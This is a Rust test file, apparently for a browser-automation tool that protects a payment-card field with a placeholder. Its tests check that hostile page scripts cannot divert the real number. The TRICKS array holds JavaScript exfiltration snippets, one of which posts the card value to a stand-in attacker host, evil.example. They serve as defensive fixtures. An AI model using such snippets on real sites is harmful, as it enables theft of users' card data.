//! Pages that try to divert the value: they get the placeholder.

use std::time::Duration;

use crate::support::{Open, Received, ref_of};
use crate::wire::{CARD, FORM, PLACEHOLDER, Stage, card, sealed};
use browser_signals::Shape;
use browser_signals::playwright::{ObservationTarget, WireEnd};

const SENDERS: &str = r#"<button onclick="go()">Change</button>"#;

/// What a page does with the contents of its own field. No request may carry the value.
const TRICKS: [&str; 22] = [
    "f.note.value=c.value;c.value='';f.submit()",
    "c.name='note2';f.submit()",
    "f.action='/other';f.submit()",
    "f.enctype='text/plain';f.submit()",
    "f.method='get';f.submit()",
    "fetch('/other',{method:'POST',body:new URLSearchParams({card:c.value})})",
    "fetch('/pay/',{method:'POST',body:new URLSearchParams({card:c.value})})",
    "fetch('/pay',{method:'PUT',body:new URLSearchParams({card:c.value})})",
    "fetch('/pay?card='+c.value,{method:'POST'})",
    "fetch('/pay',{method:'POST',headers:{card:c.value}})",
    "fetch('/pay',{method:'POST',body:new URLSearchParams({note:c.value})})",
    "fetch('/pay',{method:'POST',body:'card='+c.value})",
    "fetch('/pay',{method:'POST',body:new Blob(['card='+c.value],{type:'text/plain'})})",
    "fetch('/pay',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat:c.value})})",
    "fetch('/pay',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({card:btoa(c.value)})})",
    "fetch('http://pay.example:PORT/pay',{method:'POST',mode:'no-cors',body:new URLSearchParams({card:c.value})})",
    "fetch('http://evil.example:PORT/pay',{method:'POST',mode:'no-cors',body:new URLSearchParams({card:c.value})})",
    "navigator.sendBeacon('/pay',new URLSearchParams({card:c.value}))",
    "new Image().src='/pay?card='+c.value",
    "new WebSocket('ws://shop.example:PORT/pay').onopen=function(){this.send(c.value)}",
    "new Worker(URL.createObjectURL(new Blob(['fetch(`http://shop.example:PORT/other`,{method:`POST`,body:new URLSearchParams({card:`'+c.value+'`})})'])))",
    "const i=document.createElement('iframe');document.body.append(i);i.contentWindow.fetch('/other',{method:'POST',body:new URLSearchParams({card:c.value})})",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_sends_it_elsewhere_sends_the_placeholder() {
    let stage = Stage::new().await;
    for script in TRICKS {
        stage.wired(&format!("{FORM}{SENDERS}<script>function go(){{ {script} }}</script>")).await;
        stage.click("Change").await;
        assert!(!stage.ends().contains(&WireEnd::Sent), "{script}");
        let leaked = stage.server.requests().into_iter().find(|it| format!("{it:?}").contains(CARD));
        assert!(leaked.is_none(), "{script}: {leaked:?}");
        assert_eq!(stage.heard.holds(CARD), None, "{script}");
    }
    let reached = |stage: &Stage| {
        stage.server.requests().into_iter().filter(|it| format!("{it:?}").contains(PLACEHOLDER)).count()
    };
    assert!(reached(&stage) > 8, "the tricks were tried: {}", reached(&stage));
    stage.browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_value_is_sent_once() {
    let stage = Stage::new().await;
    let send = "fetch('/pay',{method:'POST',body:new URLSearchParams({card:c.value})})";
    stage.wired(&format!("{FORM}{SENDERS}<script>function go(){{ {send};{send};{send} }}</script>")).await;
    stage.click("Change").await;
    stage.click("Change").await;
    let bodies: Vec<String> = stage.posts_once(6).await.into_iter().map(|(_, body)| body).collect();
    let with_value = bodies.iter().filter(|body| body.contains(CARD)).count();
    let with_placeholder = bodies.iter().filter(|body| body.contains(PLACEHOLDER)).count();
    assert_eq!((with_value, with_placeholder), (1, 5), "{bodies:?}");
    assert_eq!(stage.ends(), [WireEnd::Sent]);
    stage.holds_no_card().await;
    stage.browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_does_not_repeat_the_value() {
    let stage = Stage::new().await;
    for host in ["shop.example", "pay.example", "evil.example"] {
        stage.server.page(host, "/next", "<title>next</title>");
    }
    for (status, to, follows) in [
        (307, "/next", false),
        (308, "/next", false),
        (307, "/pay?again", false),
        (307, "http://pay.example:PORT/next", false),
        (307, "http://evil.example:PORT/next", false),
        (303, "/next", true),
        (302, "/next", true),
    ] {
        let answer = format!(
            "HTTP/1.1 {status} Elsewhere\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        stage.server.page("shop.example", "/pay", &answer);
        for page in [
            FORM.to_owned(),
            format!(
                "{FORM}<script>f.onsubmit=(e)=>{{e.preventDefault();fetch('/pay',{{method:'POST',body:new URLSearchParams(new FormData(f))}}).catch(()=>0)}}</script>"
            ),
        ] {
            let before = stage.server.requests().len();
            stage.heard.forget();
            stage.wired(&page).await;
            stage.click("Pay").await;
            let is_next = |it: &&Received| it.path.contains("/next") || it.path.contains("again");
            let arrived = |all: &[Received]| {
                let seen = || all.iter().skip(before);
                seen().any(|it| it.path == "/pay") && (!follows || seen().any(|it| is_next(&it)))
            };
            let seen = stage.server.requests_with(arrived).await.split_off(before);
            let with_value: Vec<_> = seen.iter().filter(|it| it.body.contains(CARD)).collect();
            assert!(with_value.len() == 1 && with_value[0].path == "/pay", "{status} {to}: {with_value:?}");
            let next: Vec<_> = seen.iter().filter(is_next).collect();
            assert_eq!(next.len(), usize::from(follows), "{status} {to}: {next:?}");
            assert!(next.iter().all(|it| it.method == "GET" && it.body.is_empty()));
            assert_eq!(stage.ends(), [WireEnd::Sent]);
            assert_eq!(stage.heard.holds(CARD), None, "{status} {to}");
        }
    }
    stage.browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_may_echo_the_value_into_the_next_page() {
    let stage = Stage::new().await;
    stage.server.page("shop.example", "/pay", "<p>You paid with RECEIVED</p>");
    stage.wired(FORM).await;
    stage.click("Pay").await;
    assert_eq!(stage.ends_once(1).await, [WireEnd::Sent]);
    let html = stage.tab.html_for_canary_search().await.expect("the documents");
    assert!(
        html.contains(CARD),
        "the server may do so: the container counts as released from the filling on"
    );
    stage.browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wire_ends_with_its_time_its_document_and_the_next_wire() {
    let stage = Stage::new().await;
    stage.show(FORM).await;
    let mut brief = card(&stage.form().await);
    brief.lifetime_ms = 300;
    stage.tab.fill_wire(brief).await.expect("the placeholder stands");
    tokio::time::sleep(Duration::from_millis(400)).await;
    stage.click("Pay").await;
    assert_eq!(stage.ends_once(1).await, [WireEnd::Expired]);

    stage.wired(FORM).await;
    stage.show(FORM).await;
    assert_eq!(stage.ends_once(1).await, [WireEnd::DocumentGone]);

    stage.wired(FORM).await;
    let again = sealed(&stage.form().await, &[("card", "4000009876543210", CARD, Shape::Digits)]);
    stage.tab.fill_wire(again).await.expect("the second stands");
    assert_eq!(stage.ends_once(1).await, [WireEnd::Replaced]);
    stage.tab.withdraw_wires();
    assert_eq!(stage.ends_once(1).await, [WireEnd::Expired]);
    stage.click("Pay").await;

    let posts = stage.posts_once(2).await;
    assert!(posts.iter().all(|(_, body)| !body.contains(CARD)), "{posts:?}");
    assert_eq!(posts.len(), 2);
    stage.holds_no_card().await;
    stage.browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_of_another_frame_does_not_get_the_value() {
    let stage = Stage::new().await;
    let sender = "<form id=g action='/pay' method=post><input name=card id=d value='4000001234567899'></form><script>onmessage=()=>g.submit()</script>";
    stage.server.page("shop.example", "/inner", sender);
    let frame = r#"<iframe id=i src="/inner"></iframe><button onclick="i.contentWindow.postMessage(1,'*')">Change</button>"#;
    stage.wired(&format!("{FORM}{frame}")).await;
    stage.click("Change").await;
    let posts = stage.posts_once(1).await;
    assert!(posts.iter().any(|(_, body)| body.contains(PLACEHOLDER)), "{posts:?}");
    assert!(posts.iter().all(|(_, body)| !body.contains(CARD)), "{posts:?}");
    assert_eq!(stage.ends(), []);
    // A form of another origin that is filled and targets the frame of the granted document.
    let text = stage.tab.read(&Open).await.expect("text").text;
    let pay = ref_of(&text, "\"Pay\"");
    let decided = stage.tab.observe(ObservationTarget::Element(&pay)).await.expect("a snapshot");
    stage.tab.submit(&pay, &decided).await.expect("submitted");
    assert_eq!(stage.ends_once(1).await, [WireEnd::Sent]);
    stage.browser.close().await;
}
